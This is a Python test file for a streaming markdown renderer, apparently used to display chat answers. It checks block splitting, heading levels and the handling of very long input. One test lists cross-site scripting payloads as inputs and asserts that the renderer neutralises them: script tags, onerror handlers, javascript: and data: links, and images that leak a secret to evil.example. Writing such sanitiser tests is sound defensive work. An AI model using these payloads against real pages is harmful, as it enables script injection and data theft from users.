import html
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.markdown import Blocks, render_block, render_markdown

CODE = "x = 1\n" * 2000

ANSWER = """# Returns

You have **30 days**.

1. Pack it.

2. Send it.

   Keep the slip.

```
a

b
```

| a | b |
|---|---|
| 1 | 2 |

Bye"""

markdown_like = st.lists(
    st.sampled_from(
        ["\n", "\n\n", "- ", "1. ", "12", ")", "```", "  ", "    ", "# ", "word", "*", "😀", "退款"]
    )
).map("".join)


def blocks_of(pieces: list[str]) -> tuple[list[str], str]:
    blocks = Blocks()
    return [block for piece in pieces for block in blocks.feed(piece)], blocks.rest


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def test_it_cuts_an_answer_at_its_blocks() -> None:
    finished, rest = blocks_of([ANSWER])
    assert [block.split("\n")[0] for block in finished] == [
        "# Returns",
        "You have **30 days**.",
        "1. Pack it.",
        "```",
        "| a | b |",
    ]
    assert rest == "Bye"


@given(markdown_like, st.data())
def test_it_cuts_alike_however_the_text_arrives(text: str, data: st.DataObject) -> None:
    at = sorted(data.draw(st.lists(st.integers(0, len(text)))))
    pieces = [text[a:b] for a, b in zip([0, *at], [*at, len(text)], strict=True)]
    assert blocks_of(pieces) == blocks_of([text])


@given(markdown_like)
def test_it_loses_nothing_in_cutting(text: str) -> None:
    finished, rest = blocks_of(list(text))
    assert "".join([*finished, rest]) == text


@given(markdown_like)
def test_finished_blocks_look_as_they_will_in_the_whole(text: str) -> None:
    finished, rest = blocks_of(list(text))
    assert "".join(map(render_block, [*finished, rest])) == render_markdown(text)


def test_it_judges_the_next_line_before_it_is_whole() -> None:
    finished, rest = blocks_of(["First.\n\n", "S"])
    assert (finished, rest) == (["First.\n\n"], "S")


def test_it_waits_while_a_list_may_go_on() -> None:
    assert blocks_of(["- a\n\n", "1"])[0] == []
    assert blocks_of(["- a\n\n", "10 o'clock"])[0] == ["- a\n\n"]


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
        '[x](https://a.example "onmouseover=alert(1)")',
        "<a href=https://evil.example style=position:fixed>x</a>",
    ],
)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    found = Elements()
    found.feed(render_markdown(attack))
    assert {tag for tag, _ in found.seen} <= {"p", "a"}
    for _, attributes in found.seen:
        assert set(attributes) <= {"href", "target", "rel"}
        assert str(attributes.get("href", "https://")).startswith("https://")


def test_a_link_says_where_it_leads() -> None:
    assert "</a> (evil.example)" in render_markdown("[your bank](https://evil.example/login)")
    assert "</a> (evil.com)" in render_markdown("[https://notevil.com](https://evil.com)")
    assert "(" not in render_markdown("https://shop.example/returns")
    assert 'rel="noopener nofollow"' in render_markdown("https://shop.example/")


def test_headings_stand_below_those_of_the_page() -> None:
    assert render_markdown("# A") == "<h3>A</h3>\n"
    assert render_markdown("Setext\n===") == "<h3>Setext</h3>\n"


@pytest.mark.parametrize("piece", ["http://a.", "[", "*a ", "<"])
def test_a_paragraph_without_end_is_shown_as_it_is(piece: str) -> None:
    endless = piece * 20_000
    assert render_markdown(endless) == f"<p>{html.escape(endless)}</p>\n"


def test_long_code_stays_code() -> None:
    assert render_block(f"```\n{CODE}```").startswith("<pre><code>x = 1\n")
